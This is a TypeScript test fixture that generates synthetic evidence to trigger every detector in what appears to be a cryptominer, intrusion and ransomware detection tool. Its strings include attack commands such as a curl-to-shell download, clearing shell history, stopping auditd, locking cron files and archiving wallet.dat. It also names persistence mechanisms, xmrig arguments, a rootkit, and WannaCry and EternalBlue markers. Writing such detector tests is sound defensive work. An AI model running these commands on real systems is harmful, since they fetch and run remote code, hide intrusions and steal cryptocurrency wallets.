import type { FactsFixture } from "./facts.ts";
import type { HostFixture } from "./host-facts.ts";

/** Facts on which every detector fires, with `name` wherever evidence may put a name of its own. */
export function longNamed(name: string): FactsFixture {
  const login = { pays: `${name} x`, worker: name };
  const base = { client: "192.0.2.1:1", server: "203.0.113.1:3333", named: name, logins: [login, {}] };
  return {
    why: "long names",
    indicators: [{ kind: "ip", value: "203.0.113.1", port: null, source: name, says: name }],
    sessions: [
      { ...base, accepted: 3, redirects: [`${name}.example:1`] },
      { ...base, client: "192.0.2.2:1" },
      { ...base, client: "192.0.2.3:1", dialect: "stratum-v2" },
    ],
    contacts: [{ client: "192.0.2.4", by: "dns", name, chain: [name, name], pool: name, matched: name }],
    host: [...wayIn(name), ...staying(name), ...deeds(name), ...theft(name), ...extortion(name)],
  };
}

function wayIn(name: string): HostFixture[] {
  return [
    { kind: "login", at: 0, outcome: "failed", user: name, from: name, times: 40, excerpt: name },
    { kind: "login", at: 60, user: name, from: name, service: name, method: name, excerpt: name },
    ...newPlace(name),
    { kind: "event", at: 50, what: "account-added", subject: name, user: name, says: name },
    {
      kind: "event",
      at: 50,
      what: "cloud-call",
      subject: name,
      from: name,
      user: name,
      says: `DeleteTrail: ${name}`,
    },
    { kind: "request", at: 50, exploit: name, client: name, target: name, agent: name, excerpt: name },
    { kind: "request", at: 50, exploit: "docker-api", client: name, target: name, excerpt: name },
  ];
}

function staying(name: string): HostFixture[] {
  const start = { kind: "autostart", path: `/${name}`, name, user: name, excerpt: name } as const;
  const typed = { kind: "command", at: 90, user: name, from: name, by: name } as const;
  return [
    { ...start, mechanism: "cron", schedule: name, command: `/tmp/.${name}` },
    { ...start, mechanism: "systemd", command: `/tmp/.${name}` },
    { ...start, mechanism: "ld-preload", command: `/tmp/.${name}` },
    { ...start, mechanism: "authorized-key", at: 90, command: `ssh-rsa AAAA ${name}` },
    { ...start, mechanism: "kernel-module", command: `/tmp/.${name}.ko` },
    { kind: "yara", rule: name, path: name },
    { kind: "account", user: name, uid: 0, shell: name, home: name },
    {
      kind: "process",
      pid: 1,
      name: "xmrig",
      exe: `/${name}`,
      args: `xmrig -o ${name}.example:3333 -u ${name}`,
    },
    { ...typed, text: `curl http://203.0.113.9/a | sh; ${name}` },
  ];
}

function deeds(name: string): HostFixture[] {
  const typed = { kind: "command", at: 90, user: name, from: name, by: name } as const;
  const texts = [
    `history -c; ${name}`,
    `chattr +i /etc/cron.d/${name}`,
    `mv /usr/bin/wget /usr/bin/w${name}`,
    `pkill kinsing; pkill kdevtmpfsi; pkill xmrig; ${name}`,
    `systemctl stop auditd; ${name}`,
    `mount --bind /tmp /proc/1; ${name}`,
    `tar cf x wallet.dat; ${name}`,
  ];
  return [
    ...texts.map((text) => ({ ...typed, text, excerpt: name })),
    { kind: "event", at: 91, what: "log-cleared", subject: name, user: name, says: name },
    { kind: "event", at: 91, what: "service-stopped", subject: `auditd ${name}`, user: name, says: name },
    { kind: "event", at: 91, what: "module-loaded", subject: "diamorphine", user: name, says: name },
  ];
}

function theft(name: string): HostFixture[] {
  const held = { kind: "address", path: name, address: name, excerpt: `clipboard ${name}` } as const;
  return [
    ...["btc", "eth", name].map((coin) => ({ ...held, coin })),
    { kind: "secret", what: "wif", path: name },
  ];
}

/** A month of logins from one place, then one from another. */
function newPlace(name: string): HostFixture[] {
  const days = Array.from(
    { length: 31 },
    (_, day) => ({ kind: "login", at: day * 86_400, from: "192.0.2.80" }) as const,
  );
  return [...days, { kind: "login", at: 40 * 86_400, user: name, from: `x${name}`, excerpt: name }];
}

function extortion(name: string): HostFixture[] {
  const ends = { client: { ip: name, port: 1 }, server: { ip: `${name}2`, port: 445 } };
  const smb = { kind: "smb", at: 1, excerpt: name, lastMicros: 1_618_560_000_000_000, ...ends } as const;
  const known = "115p7UMMngoj1pMvkpHijcRdfJNXj6LrLn";
  const last = 1_618_560_060_000_000;
  return [
    { ...smb, mark: "eternalblue-groom", times: 9 },
    { ...smb, mark: "doublepulsar-present" },
    { ...smb, mark: "wannacry-tree" },
    { kind: "name-query", at: 1, client: name, name, family: "wannacry", excerpt: name },
    { kind: "file", path: name, notable: "wannacry-file", excerpt: name },
    { kind: "address", coin: "btc", address: known, path: `${name}/a`, excerpt: name },
    {
      kind: "burst",
      at: 0,
      ending: `.${name}`,
      files: 900,
      lastMicros: last,
      examples: [name],
      excerpt: name,
    },
    {
      kind: "ransom-note",
      at: 0,
      path: name,
      addresses: [{ coin: "btc", address: name }],
      amounts: [name],
      deadlines: [name],
      contacts: [name],
      demands: [name],
      excerpt: name,
    },
  ];
}
